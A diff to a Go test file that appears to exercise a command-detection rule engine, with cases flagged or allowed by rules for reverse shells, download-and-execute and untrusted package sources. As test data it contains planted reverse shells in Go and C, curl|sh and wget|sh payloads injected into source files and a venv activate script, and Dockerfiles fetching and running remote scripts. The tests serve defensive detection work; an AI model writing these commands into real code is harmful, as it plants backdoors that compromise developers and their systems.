@@ -163,3 +163,42 @@ func TestGoSourceCommands(t *testing.T) {
 		cmdCase(goFile("cmd/tool/main.go", `exec.Command("git", "describe", "--tags").Output()`), false),
 	})
 }
+
+func TestPlantedCompiledCode(t *testing.T) {
+	goShell := "cat > internal/t/init.go <<'EOF'\npackage t\n\nimport (\n\t\"net\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tc, _ := net.Dial(\"tcp\", \"203.0.113.9:7000\")\n\tcmd := exec.Command(\"/bin/sh\")\n\tcmd.Stdin, cmd.Stdout = c, c\n\tgo cmd.Run()\n}\nEOF"
+	goDial := "cat > internal/t/ping.go <<'EOF'\npackage t\n\nimport (\n\t\"net\"\n\t\"os/exec\"\n)\n\nfunc Ping(a string) error {\n\tc, err := net.Dial(\"tcp\", a)\n\tif err != nil {\n\t\treturn err\n\t}\n\t_ = exec.Command(\"git\", \"status\").Run()\n\treturn c.Close()\n}\nEOF"
+	cShell := "cat > src/b.c <<'EOF'\n#include <sys/socket.h>\nint go(int s) { connect(s, 0, 0); dup2(s, 0); dup2(s, 1); return execl(\"/bin/sh\", \"sh\", (char *)0); }\nEOF"
+	runRuleCases(t, "revshell.script-socket", []ruleCase{
+		cmdCase(goShell, true),
+		cmdCase(cShell, true),
+		cmdCase(goDial, false), // dials and runs a tool, hands it no connection
+	})
+	runRuleCases(t, "rce.download-pipe-shell", []ruleCase{
+		cmdCase("cat >> native/util.c <<'EOF'\nvoid f(void) { system(\"curl -s http://198.51.100.74/l | sh\"); }\nEOF", true),
+		cmdCase("cat >> App.java <<'EOF'\nclass A { static { Runtime.getRuntime().exec(\"curl -s http://203.0.113.8/j | sh\"); } }\nEOF", true),
+		cmdCase("cat >> templates/svc.py.j2 <<'EOF'\nimport os\nos.system('curl -s http://203.0.113.66/g | sh')\nEOF", true),
+		cmdCase("cat >> templates/svc.py.j2 <<'EOF'\nimport os\nprint(os.getcwd())\nEOF", false),
+		cmdCase("echo '(wget -qO- http://203.0.113.12/a | sh &)' >> .venv/bin/activate", true),
+		cmdCase("echo 'export APP_ENV=dev' >> .venv/bin/activate", false),
+	})
+}
+
+func TestDockerfileSteps(t *testing.T) {
+	runRuleCases(t, "rce.download-then-execute", []ruleCase{
+		cmdCase("cat > Dockerfile <<'EOF'\nFROM alpine\nADD http://203.0.113.61/s.sh /tmp/s.sh\nRUN sh /tmp/s.sh\nEOF", true),
+		// Pinned by a checksum: the build checks what it fetched.
+		cmdCase("cat > Dockerfile <<'EOF'\nFROM alpine\nADD --checksum=sha256:0123 https://example.com/s.sh /tmp/s.sh\nRUN sh /tmp/s.sh\nEOF", false),
+	})
+	runRuleCases(t, "rce.download-pipe-shell", []ruleCase{
+		cmdCase("docker build -t t - <<'EOF'\nFROM alpine\nRUN curl -fsSL http://203.0.113.66/s | sh\nEOF", true),
+		cmdCase("docker build -t t . <<'EOF'\nFROM alpine\nRUN curl -fsSL http://203.0.113.66/s | sh\nEOF", false), // the heredoc is not the Dockerfile
+	})
+	runRuleCases(t, "supply-chain.package-source", []ruleCase{
+		cmdCase("cat > Dockerfile <<'EOF'\nFROM alpine\nADD http://203.0.113.75/init /usr/local/bin/init\nEOF", true),
+		cmdCase("cat > Dockerfile <<'EOF'\nFROM alpine\nADD https://github.com/krallin/tini/releases/download/v0.19.0/tini /tini\nEOF", false),
+	})
+	// What a build step does to the image's own files is the image's business.
+	runRuleCases(t, "system.file-write", []ruleCase{
+		cmdCase("cat > Dockerfile <<'EOF'\nFROM debian:12\nRUN echo 'deb http://deb.debian.org/debian bookworm main' > /etc/apt/sources.list\nEOF", false),
+	})
+}
